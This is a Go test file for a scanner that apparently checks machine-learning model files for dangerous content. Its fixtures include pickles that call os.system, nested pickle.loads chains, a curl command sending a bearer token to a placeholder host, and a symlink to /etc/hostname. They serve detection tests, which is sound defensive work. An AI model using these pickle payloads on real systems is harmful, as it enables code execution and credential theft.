package scan_test

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"modelgate/internal/corpus"
	"modelgate/internal/finding"
	"modelgate/internal/policy"
	"modelgate/internal/report"
	"modelgate/internal/scan"
	"modelgate/internal/verdictcache"
)

const payload = "cos\nsystem\n(S'echo pwned'\ntR."

func writeTree(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, body := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func runScan(t *testing.T, opts scan.Options, paths ...string) map[string]*report.File {
	t.Helper()
	got := map[string]*report.File{}
	err := scan.New(opts).Run(context.Background(), []scan.Source{scan.Paths(paths)}, func(f *report.File) { got[f.Path] = f })
	if err != nil {
		t.Fatal(err)
	}
	return got
}

func rulesOf(f *report.File) []string {
	var r []string
	for _, x := range f.Findings {
		r = append(r, x.Rule)
	}
	return r
}

// TestFolderScan: every file is opened whatever its name; formats come from
// content; .git is skipped; unknown content is reported, not skipped.
func TestFolderScan(t *testing.T) {
	dir := writeTree(t, map[string]string{
		"weights.safetensors": payload, // a pickle hiding behind a safe name
		"photo.jpg":           payload,
		"README.md":           "# a model\n",
		"sub/deeper/noext":    payload,
		".git/objects/ab/cd":  payload,
	})
	if err := os.Symlink(filepath.Join(dir, "photo.jpg"), filepath.Join(dir, "link.bin")); err != nil {
		t.Fatal(err)
	}
	got := runScan(t, scan.Options{}, dir)
	for _, name := range []string{"weights.safetensors", "photo.jpg", "sub/deeper/noext", "link.bin"} {
		f := got[filepath.Join(dir, name)]
		if f == nil {
			t.Errorf("%s not scanned", name)
			continue
		}
		if f.Format != "pickle" || !slices.Contains(rulesOf(f), finding.RulePickleDangerous) {
			t.Errorf("%s: format %s, rules %v", name, f.Format, rulesOf(f))
		}
		if len(f.SHA256) != 64 {
			t.Errorf("%s: sha256 %q", name, f.SHA256)
		}
	}
	readme := got[filepath.Join(dir, "README.md")]
	if readme == nil || readme.Format != "unknown" || !slices.Contains(rulesOf(readme), finding.RuleUnknownFormat) {
		t.Errorf("README: %+v", readme)
	}
	for p := range got {
		if strings.Contains(p, ".git") {
			t.Errorf("scanned %s", p)
		}
	}
}

func TestUnreadableAndLimits(t *testing.T) {
	dir := writeTree(t, map[string]string{"big.pkl": payload, "ok.pkl": "N."})
	got := runScan(t, scan.Options{NoHash: true}, filepath.Join(dir, "missing.pkl"), dir)
	if f := got[filepath.Join(dir, "missing.pkl")]; f == nil || f.Status != report.StatusError || !slices.Contains(rulesOf(f), finding.RuleIOError) {
		t.Errorf("missing file: %+v", f)
	}
	if f := got[filepath.Join(dir, "ok.pkl")]; f.SHA256 != "" {
		t.Error("hashed despite NoHash")
	}

	p := writePolicy(t, "[limits]\nMaxFileSize = 10\n")
	got = runScan(t, scan.Options{Policy: p}, dir)
	f := got[filepath.Join(dir, "big.pkl")]
	if f.Status != report.StatusPartial || !slices.Contains(rulesOf(f), finding.RuleLimit) || slices.Contains(rulesOf(f), finding.RulePickleDangerous) {
		t.Errorf("size limit: status %s rules %v", f.Status, rulesOf(f))
	}
}

func writePolicy(t *testing.T, body string) *policy.Policy {
	t.Helper()
	path := filepath.Join(t.TempDir(), "p.toml")
	if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	p, err := policy.Load(path)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// TestNestingLimit: a pickle that loads a pickle that loads a pickle…
// stops at MaxDepth with a finding.
func TestNestingLimit(t *testing.T) {
	data := payload
	for range 12 {
		data = "cpickle\nloads\n(" + pyStringLiteral(data) + "\ntR."
	}
	dir := writeTree(t, map[string]string{"deep.pkl": data})
	f := runScan(t, scan.Options{}, dir)[filepath.Join(dir, "deep.pkl")]
	if !slices.Contains(rulesOf(f), finding.RuleLimit) || f.Status != report.StatusPartial {
		t.Errorf("rules %v status %s", rulesOf(f), f.Status)
	}
	depth := 0
	for _, m := range f.Members {
		depth = max(depth, strings.Count(m.Path, "!")+1)
	}
	if depth != 8 {
		t.Errorf("nested to depth %d, want the default limit 8", depth)
	}
}

// pyStringLiteral writes s as a protocol 0 STRING argument.
func pyStringLiteral(s string) string {
	var b strings.Builder
	b.WriteString("S'")
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c == '\\' || c == '\'':
			b.WriteByte('\\')
			b.WriteByte(c)
		case c < 0x20 || c >= 0x7f:
			b.WriteString(`\x`)
			b.WriteString(strings.ToLower(string("0123456789abcdef"[c>>4]) + string("0123456789abcdef"[c&15])))
		default:
			b.WriteByte(c)
		}
	}
	b.WriteByte('\'')
	return b.String()
}

func TestDedupAndSuppression(t *testing.T) {
	var data strings.Builder
	for range 5 {
		data.WriteString("cmylib\nthing\n.")
	}
	dir := writeTree(t, map[string]string{"many.pkl": data.String()})
	f := runScan(t, scan.Options{}, dir)[filepath.Join(dir, "many.pkl")]
	var sus *finding.Finding
	for i := range f.Findings {
		if f.Findings[i].Rule == finding.RulePickleSuspicious {
			sus = &f.Findings[i]
		}
	}
	if sus == nil || f.Imports[0].Count != 5 {
		t.Fatalf("findings %v imports %v", f.Findings, f.Imports)
	}
	p := writePolicy(t, "[[suppress]]\nrule = \"PICKLE-SUSPICIOUS-GLOBAL\"\nevidence = \"mylib.*\"\n")
	f = runScan(t, scan.Options{Policy: p}, dir)[filepath.Join(dir, "many.pkl")]
	if slices.Contains(rulesOf(f), finding.RulePickleSuspicious) || f.Suppressed != 1 {
		t.Errorf("suppression: %v, suppressed %d", rulesOf(f), f.Suppressed)
	}
}

func TestTimeoutAndCancel(t *testing.T) {
	// A long but valid pickle: many small ops.
	var data strings.Builder
	data.WriteString("\x80\x04")
	for range 3_000_000 {
		data.WriteString("N0")
	}
	data.WriteString("N.")
	dir := writeTree(t, map[string]string{"slow.pkl": data.String()})
	p := writePolicy(t, "[limits]\nPerFileTimeoutMs = 1\n")
	f := runScan(t, scan.Options{Policy: p}, dir)[filepath.Join(dir, "slow.pkl")]
	if f.Status != report.StatusPartial || !slices.Contains(rulesOf(f), finding.RuleLimit) || !strings.Contains(f.Error, "timed out") {
		t.Errorf("timeout: status %s, %v", f.Status, f.Findings)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	err := scan.New(scan.Options{}).Run(ctx, []scan.Source{scan.Paths{dir}}, func(*report.File) {})
	if err == nil {
		t.Error("a cancelled run returned no error")
	}
	start := time.Now()
	got := runScan(t, scan.Options{}, dir)
	if f := got[filepath.Join(dir, "slow.pkl")]; f.Status != report.StatusComplete {
		t.Errorf("status %s: %v", f.Status, f.Findings)
	}
	t.Logf("6M opcodes in %s", time.Since(start))
}

func TestProgressAndOrder(t *testing.T) {
	files := map[string]string{}
	for i := range 20 {
		files[filepath.Join("d", string(rune('a'+i))+".pkl")] = "N."
	}
	dir := writeTree(t, files)
	var last scan.Progress
	n := 0
	err := scan.New(scan.Options{Jobs: 4, Progress: func(p scan.Progress) { last = p; n++ }}).Run(context.Background(), []scan.Source{scan.Paths{dir}}, func(*report.File) {})
	if err != nil {
		t.Fatal(err)
	}
	if n != 20 || last.FilesDone != 20 || last.FilesTotal != 20 || last.BytesDone != 40 || last.BytesTotal != 40 {
		t.Errorf("progress %d calls, last %+v", n, last)
	}
	if err := scan.New(scan.Options{}).Run(context.Background(), []scan.Source{scan.Paths{t.TempDir()}}, func(*report.File) {}); err != scan.ErrNoFiles {
		t.Errorf("empty folder: %v", err)
	}
}

// TestFolderDependentVerdictsAreNotCached: an ONNX model's verdict depends
// on the files beside it (external data may be a symlink out of the
// folder), so the same bytes in another folder must be judged again.
func TestFolderDependentVerdictsAreNotCached(t *testing.T) {
	model, err := os.ReadFile(filepath.Join(corpus.Dir(), "benign/onnx_ext/model.onnx"))
	if err != nil {
		t.Fatal(err)
	}
	good := writeTree(t, map[string]string{"model.onnx": string(model), "model.onnx.data": strings.Repeat("\x00", 64)})
	bad := writeTree(t, map[string]string{"model.onnx": string(model)})
	if err := os.Symlink("/etc/hostname", filepath.Join(bad, "model.onnx.data")); err != nil {
		t.Fatal(err)
	}
	cache, err := verdictcache.Open(verdictcache.Options{Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	opts := scan.Options{Cache: cache}
	first := runScan(t, opts, filepath.Join(good, "model.onnx"))[filepath.Join(good, "model.onnx")]
	second := runScan(t, opts, filepath.Join(bad, "model.onnx"))[filepath.Join(bad, "model.onnx")]
	if first.Cached || second.Cached {
		t.Fatalf("a folder-dependent verdict came from the cache")
	}
	if !slices.Contains(rulesOf(second), finding.RuleONNXExternalTraversal) {
		t.Errorf("symlinked external data not flagged: %v", rulesOf(second))
	}
}

// TestSecretsRedactedEverywhere: a token quoted by any analyzer (here a
// pickle's call arguments) never reaches the report.
func TestSecretsRedactedEverywhere(t *testing.T) {
	token := "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH"
	dir := writeTree(t, map[string]string{"leak.pkl": "cos\nsystem\n(S'curl -H \"Authorization: Bearer " + token + "\" https://example.invalid'\ntR."})
	f := runScan(t, scan.Options{Explain: true}, dir)[filepath.Join(dir, "leak.pkl")]
	for _, x := range f.Findings {
		if strings.Contains(x.Evidence+x.Message, token) {
			t.Errorf("token in finding: %s", x.Evidence)
		}
	}
	for _, l := range f.Listings {
		if strings.Contains(l.Text, token) {
			t.Error("token in listing")
		}
	}
	if !slices.Contains(rulesOf(f), finding.RulePickleDangerous) {
		t.Error("payload not reported")
	}
}
